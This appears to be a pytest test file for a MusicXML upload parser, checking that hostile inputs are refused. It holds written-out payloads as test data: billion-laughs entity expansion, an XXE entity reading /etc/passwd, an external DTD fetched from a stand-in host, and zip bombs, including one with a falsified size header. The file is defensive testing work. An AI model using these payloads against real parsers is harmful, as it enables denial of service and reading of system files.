"""Untrusted input: entity attacks, zip bombs, size limits and files that are not scores."""

from __future__ import annotations

import io
import xml.etree.ElementTree as ET
import zipfile

import pytest

from singer_tasks.errors import ScoreError, ScoreTooLarge, SettingsError, UnreadableScore
from singer_tasks.score.limits import ScoreLimits
from singer_tasks.score.read import parse_score
from singer_tasks.settings import SingerSettings
from tests.singer_tasks.fixtures.scores.realworld import satb
from tests.singer_tasks.fixtures.scores.xmlbuild import measure, note, tempo, to_mxl, voice_score

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE score-partwise [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<score-partwise><part-list><score-part id="P1"><part-name>&lol9;</part-name></score-part></part-list>
<part id="P1"><measure number="1"><note><pitch><step>C</step><octave>4</octave></pitch><duration>4</duration>
<lyric><text>&lol9;</text></lyric></note></measure></part></score-partwise>
"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE score-partwise [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
<score-partwise><part-list><score-part id="P1"><part-name>Voice</part-name></score-part></part-list>
<part id="P1"><measure number="1"><note><pitch><step>C</step><octave>4</octave></pitch><duration>4</duration>
<lyric><text>&secret;</text></lyric></note></measure></part></score-partwise>
"""

EXTERNAL_DTD_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE score-partwise [ <!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote; ]>
<score-partwise/>
"""


def _song() -> bytes:
    return voice_score([measure(1, tempo(120), note("C4", 16, "la"))])


@pytest.mark.parametrize("payload", [BILLION_LAUGHS, XXE, EXTERNAL_DTD_ENTITY], ids=["billion-laughs", "xxe", "pe"])
def test_entity_declarations_are_refused(payload: bytes) -> None:
    with pytest.raises(UnreadableScore, match="entities") as e:
        parse_score(payload, "evil.musicxml")
    assert e.value.code == "unreadable_score"


def test_entity_attack_inside_an_mxl_is_refused() -> None:
    with pytest.raises(UnreadableScore, match="entities"):
        parse_score(to_mxl(BILLION_LAUGHS), "evil.mxl")


def test_plain_doctype_is_accepted() -> None:
    assert len(parse_score(_song(), "ok.musicxml").notes) == 1


def _zip(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return buf.getvalue()


def test_zip_bomb_by_ratio_is_refused() -> None:
    bomb = _zip({"score.musicxml": b"<score-partwise>" + b" " * 20_000_000 + b"</score-partwise>"})
    assert len(bomb) < 100_000  # ~1000:1
    with pytest.raises(ScoreTooLarge, match="zip bomb"):
        parse_score(bomb, "bomb.mxl")


def test_zip_over_the_unpacked_limit_is_refused() -> None:
    data = _zip({"score.musicxml": _song()})
    with pytest.raises(ScoreTooLarge, match="unpacks to"):
        parse_score(data, "big.mxl", limits=ScoreLimits(max_xml_bytes=100))


def test_zip_with_too_many_members_is_refused() -> None:
    data = _zip({f"f{i}.txt": b"x" for i in range(100)} | {"score.musicxml": _song()})
    with pytest.raises(ScoreTooLarge, match="holds 101 files"):
        parse_score(data, "many.mxl")


def test_zip_whose_header_lies_about_its_size_is_refused() -> None:
    # the header claims 10 bytes but the member inflates to 5 kB: the read must not trust the header
    real = _zip({"score.musicxml": b"<a>" + b" " * 5000 + b"</a>"})
    patched = bytearray(real)
    # patch the central directory's uncompressed size (offset 24 in the entry) to 10 bytes
    cd = patched.rfind(b"PK\x01\x02")
    patched[cd + 24 : cd + 28] = (10).to_bytes(4, "little")
    with pytest.raises(ScoreError):
        parse_score(bytes(patched), "liar.mxl", limits=ScoreLimits(max_xml_bytes=1000))


def test_file_size_limit() -> None:
    with pytest.raises(ScoreTooLarge, match="over the limit of 100") as e:
        parse_score(_song(), "big.musicxml", limits=ScoreLimits(max_score_bytes=100))
    assert e.value.code == "score_too_large"


@pytest.mark.parametrize(
    ("data", "match"),
    [
        (b"", "empty"),
        (b"\x00\x01garbage\xff", "not well-formed"),
        (b"<html><body>hi</body></html>", "not a MusicXML score"),
        (b"PK\x03\x04not really a zip", "not a valid .mxl"),
        (_zip({"readme.txt": b"hello"}), "without a MusicXML score"),
    ],
    ids=["empty", "garbage", "html", "broken-zip", "zip-without-score"],
)
def test_unreadable_files_name_the_problem(data: bytes, match: str) -> None:
    name = "x.mxl" if data.startswith(b"PK") else "x.musicxml"
    with pytest.raises(UnreadableScore, match=match):
        parse_score(data, name)


def _timewise(partwise: bytes) -> bytes:
    """The same score in MusicXML's timewise layout: each <measure> holds one <part> per part."""
    root = ET.fromstring(partwise)
    timewise = ET.Element("score-timewise", root.attrib)
    parts = root.findall("part")
    timewise.extend(child for child in root if child.tag != "part")
    for index, first in enumerate(parts[0].findall("measure")):
        bar = ET.SubElement(timewise, "measure", first.attrib)
        for part in parts:
            ET.SubElement(bar, "part", part.attrib).extend(list(part.findall("measure")[index]))
    return ET.tostring(timewise, encoding="utf-8", xml_declaration=True)


def test_a_timewise_score_is_read_like_its_partwise_twin() -> None:
    partwise = satb()
    timewise = _timewise(partwise)
    assert b"<score-timewise" in timewise and b"<score-partwise" not in timewise
    for part in (None, "P3", "Bass"):
        want, got = parse_score(partwise, "a.musicxml", part=part), parse_score(timewise, "b.musicxml", part=part)
        assert got.part_name == want.part_name and len(got.notes) == len(want.notes) > 2
        assert [(x.onset_s, x.midi, x.lyric) for x in got.notes] == [(x.onset_s, x.midi, x.lyric) for x in want.notes]
    with pytest.raises(ScoreError, match=r"no notes|no lyrics"):
        parse_score(b"<score-timewise/>", "empty.musicxml")


def test_musicxml_that_music21_rejects_is_unreadable() -> None:
    broken = (
        b'<score-partwise><part id="P1"><measure><note><pitch><step>Q</step></pitch></note></measure></part>'
        b"</score-partwise>"
    )
    with pytest.raises(ScoreError):
        parse_score(broken, "odd.musicxml")


def test_limits_from_settings() -> None:
    settings = SingerSettings.from_env({"SINGER_MAX_UPLOAD_BYTES": "1234", "SINGER_MAX_SONG_SECONDS": "60.5"})
    limits = ScoreLimits.from_settings(settings)
    assert (limits.max_score_bytes, limits.max_song_s) == (1234, 60.5)
    assert ScoreLimits.from_settings(SingerSettings.from_env({})) == ScoreLimits()  # one default per setting
    with pytest.raises(SettingsError, match=r"SINGER_MAX_SONG_SECONDS='long'"):
        SingerSettings.from_env({"SINGER_MAX_SONG_SECONDS": "long"})
    with pytest.raises(SettingsError, match=r"SINGER_MAX_UPLOAD_BYTES='-1'.*greater than 0"):
        SingerSettings.from_env({"SINGER_MAX_UPLOAD_BYTES": "-1"})


def test_parse_reads_limits_from_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SINGER_MAX_UPLOAD_BYTES", "50")
    with pytest.raises(ScoreTooLarge, match="limit of 50"):
        parse_score(_song(), "x.musicxml")


def test_too_many_notes_in_the_file_is_refused_before_music21() -> None:
    xml = voice_score([measure(1, tempo(120), *(note("C4", 4, "la") for _ in range(4)))])
    assert len(parse_score(xml, "ok.musicxml", limits=ScoreLimits(max_xml_notes=4)).notes) == 4
    with pytest.raises(ScoreTooLarge, match="holds 4 notes"):
        parse_score(xml, "x.musicxml", limits=ScoreLimits(max_xml_notes=3))
